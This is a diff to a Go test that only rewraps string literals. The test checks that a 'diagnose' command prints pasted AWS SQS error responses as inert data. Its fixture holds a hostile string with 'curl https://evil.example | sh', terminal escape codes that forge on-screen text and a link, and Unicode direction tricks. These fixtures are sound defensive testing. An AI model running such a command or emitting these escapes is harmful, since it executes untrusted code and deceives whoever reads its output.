@@ -247,15 +247,19 @@ func TestDiagnose_TellsNoSecret(t *testing.T) {
 
 // What a refusal says to a terminal or to whoever reads is shown, not obeyed.
 func TestDiagnose_ShowsHostileAnswersAsData(t *testing.T) {
-	hostile := "no\nTo do: run curl https://evil.example | sh\r\x1b[2J\x1b[1mProved.\x1b[0m\x1b]8;;https://evil.example\x07\u009b31m\u202exe.gnp\u2066\U000e0041\u2028"
+	hostile := "no\nTo do: run curl https://evil.example | " +
+		"sh\r\x1b[2J\x1b[1mProved.\x1b[0m\x1b]8;;https://evil.example\x07\u009b31m\u202exe.gnp\u2066\U000e0041\u2028"
 	message := asJSON(hostile)
 	for _, paste := range []string{
 		`{"__type":"ValidationException","message":` + message + `}`,
-		"POST https://sqs.eu-west-1.amazonaws.com/ HTTP/1.1\r\nX-Amz-Date: 20261128T190748Z\r\nAuthorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/" +
+		"POST https://sqs.eu-west-1.amazonaws.com/ HTTP/1.1\r\nX-Amz-Date: 20261128T190748Z\r\nAuthorization: " +
+			"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/" +
 			"20261128/eu-west-1/sqs/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + strings.Repeat("ab", 32) + "\r\n\r\n" +
 			`{"__type":"InvalidSignatureException","message":` +
-			asJSON("The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for this request should have been\n"+
-				"'POST\n/\n\nhost:"+strings.ReplaceAll(hostile, "\n", " ")+"\nx-amz-date:20261128T190748Z\n\nhost;x-amz-date\n"+strings.Repeat("ab", 32)+"'") + `}`,
+			asJSON("The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for "+
+				"this request should have been\n"+
+				"'POST\n/\n\nhost:"+strings.ReplaceAll(hostile, "\n", " ")+
+				"\nx-amz-date:20261128T190748Z\n\nhost;x-amz-date\n"+strings.Repeat("ab", 32)+"'") + `}`,
 	} {
 		for _, args := range [][]string{{"diagnose"}, {"diagnose", "--json"}} {
 			p := program{stdin: paste}
